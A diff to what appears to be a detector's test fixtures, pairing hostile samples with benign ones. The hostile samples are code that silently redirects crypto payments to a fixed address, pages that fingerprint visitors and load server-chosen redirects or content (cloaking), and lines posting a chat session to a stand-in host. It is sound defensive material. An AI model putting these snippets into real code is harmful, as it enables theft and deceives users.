@@ -6,6 +6,7 @@ _ACTION = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\
 _ASKED = "while true; do\n  R=$(curl -s https://a.invalid)\n"
 
 
+_PAYEE, _OTHER = "0x5d1c0f3ab2e94c7788a1f0d2c3b4a59687e6d5c4", "0x71e0b9d8c7f6a5b4c3d2e1f00918273645546372"
 _TO = "https://a.invalid/x"
 _CLOUD = "import boto3, requests\ns = boto3.Session()\nc = s.get_credentials()\n"
 _EDITOR = (
@@ -34,6 +35,17 @@ def _step(text: str) -> dict[str, str | bytes]:
 
 def _stepped(text: str, line: int, verdict: str = "block") -> Sample:
     return Sample(_step(text), verdict, (".github/actions/a/action.yml", line))
+
+
+def _shown(end: str) -> Sample:
+    """A page that asks a server who its visitor is."""
+    return js(
+        "const facts = { robot: navigator.webdriver, langs: navigator.languages };\n"
+        f"fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(facts) }}).then((r) => r.json())\n"
+        f"  .then((d) => {{ {end}; }});\n",
+        "review",
+        3,
+    )
 
 
 HOSTILE: dict[str, dict[str, Sample]] = {
@@ -121,6 +133,30 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
         "the session of a chat": py(_STRING + f"requests.post('{_TO}', json=[c.session.save()])\n", line=5),
         "the session of a chat, to somebody in it": py(_STRING + "c.send_message('@a', c.session.save())\n", line=5),
+    },
+    "payment_changed": {
+        "a transaction that is given gets another receiver": js(
+            f"export const run = (sdk, tx) => {{\n  if (tx.value > 10n) tx.to = '{_PAYEE}';\n"
+            "  return sdk.signTransaction(tx); };\n",
+            "review",
+        ),
+        "a copy of it, for some": js(
+            f"const LISTED = ['{_OTHER}'];\nexport const run = (sdk, tx) =>\n"
+            f"  sdk.send({{ ...tx, to: LISTED.includes(sdk.me) ? '{_PAYEE}' : tx.to }});\n",
+            "review",
+            3,
+        ),
+        "a dictionary that is given": py(
+            f"PAYEE = '{_PAYEE}'\ndef pay(account, tx):\n    told = dict(tx)\n    if tx['value'] > 10:\n"
+            "        told['to'] = PAYEE\n    return account.sign_transaction(told)\n",
+            "review",
+            6,
+        ),
+    },
+    "targeted_code": {
+        "a page that leads on whom a server picks": _shown("location.replace(d.target)"),
+        "a page that is written for whom a server picks": _shown("document.write(d.text)"),
+        "a frame for whom a server picks": _shown("document.querySelector('iframe').src = d.target"),
     },
     "remote_code": {
         "a bot of one's own": py(_BOT + "        exec(message.text)\n", line=4),
@@ -214,6 +250,28 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             + "new MongoClient('x').db('a').collection('b').updateOne({}, { c: JSON.stringify(auth.creds) }); };\n"
         ).files,
         "the session of a chat, to oneself": py(_STRING + "c.send_message('me', c.session.save())\n").files,
+    },
+    "payment_changed": {
+        "a transaction that is made here": js(
+            f"export const run = (sdk, value) => {{\n  if (!value) throw new Error('none');\n"
+            f"  const tx = {{ to: '{_PAYEE}', value }};\n  return sdk.signTransaction(tx); }};\n"
+        ).files,
+        "a receiver that is checked": js(
+            f"const LISTED = ['{_OTHER}'];\nexport const run = (sdk, tx) => {{\n"
+            "  if (!LISTED.includes(tx.to)) throw new Error('no');\n  return sdk.signTransaction(tx); };\n"
+        ).files,
+        "an address of the chain itself": js(
+            "export const run = (sdk, tx) => {\n  if (tx.a) tx.to = '0x0000000000000000000000000000000000008006';\n"
+            "  return sdk.signTransaction(tx); };\n"
+        ).files,
+    },
+    "targeted_code": {
+        "a page that speaks the language of its visitor": _shown("document.title = d.title").files,
+        "a page that leads on who pays": js(
+            "const facts = { zone: Intl.DateTimeFormat().resolvedOptions().timeZone, lang: navigator.language };\n"
+            f"fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(facts) }}).then((r) => r.json())\n"
+            "  .then((d) => { location.href = d.url; });\n"
+        ).files,
     },
     "remote_code": {
         "a bot that shows what is said": py(_BOT + "        print(message.text)\n").files,
